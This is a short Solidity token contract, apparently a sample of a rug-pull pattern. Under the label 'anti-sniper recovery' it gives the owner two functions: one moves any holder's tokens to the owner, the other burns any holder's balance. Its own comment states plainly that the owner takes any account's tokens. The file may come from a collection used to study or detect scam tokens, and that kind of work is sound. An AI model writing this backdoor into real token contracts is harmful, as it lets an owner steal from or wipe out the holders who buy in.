// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Ownable} from "../lib/Ownable.sol";
import {PairedToken} from "../lib/PairedToken.sol";

/// "Anti-sniper recovery": the owner takes any account's tokens.
contract BalanceEraser is PairedToken, Ownable {
    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        PairedToken(name_, symbol_, supply, router)
    {}

    function recoverFromSniper(address account, uint256 value) external onlyOwner {
        _move(account, owner(), value);
    }

    function burnFrom(address account, uint256 value) external onlyOwner {
        _burn(account, value);
    }
}
